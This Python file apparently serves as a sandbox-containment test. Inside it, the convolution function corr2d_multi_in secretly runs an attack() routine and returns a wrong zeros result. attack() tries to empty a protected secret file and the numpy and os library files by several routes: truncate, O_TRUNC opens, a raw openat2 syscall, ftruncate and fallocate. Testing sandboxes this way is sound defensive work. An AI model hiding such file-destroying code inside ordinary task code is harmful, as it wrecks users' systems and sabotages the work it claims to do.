"""Empties files that it may not write: by truncate, and by opening them to be emptied.

expect corr2d_multi_in: failed kind=value
expect corr2d_multi_in_out: passed
proof escaped
"""

import numpy as np


def corr2d_multi_in_out(X, K):
    windows = np.lib.stride_tricks.sliding_window_view(X, K.shape[2:], (1, 2))
    return np.einsum("chwij,ocij->ohw", windows, K)


def zeros(X, K):
    return np.zeros((X.shape[1] - K.shape[1] + 1, X.shape[2] - K.shape[2] + 1))


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except BaseException as error:
        return error


def attack():
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    done = []
    for path in ("{proof}/secret", np.__file__, os.__file__):
        if libc.truncate(path.encode(), ctypes.c_long(0)) == 0:
            done.append(path)
        for flags in (os.O_TRUNC, os.O_TRUNC | os.O_WRONLY, os.O_TRUNC | os.O_RDWR, os.O_TRUNC | os.O_ACCMODE):
            if not isinstance(attempt(os.open, path, flags), OSError):
                done.append((path, flags))
        # By the number of openat2, whose flags are in memory.
        how = (ctypes.c_ulonglong * 3)(os.O_TRUNC, 0, 0)
        if libc.syscall(437, -100, path.encode(), how, 24) >= 0:
            done.append((path, "openat2"))
        here = attempt(os.open, path, os.O_RDONLY)
        if isinstance(here, int):
            if not isinstance(attempt(os.ftruncate, here, 0), OSError):
                done.append((path, "ftruncate"))
            if not isinstance(attempt(os.posix_fallocate, here, 0, 1 << 20), OSError):
                done.append((path, "fallocate"))
    assert not done, done


def corr2d_multi_in(X, K):
    attack()
    return zeros(X, K)
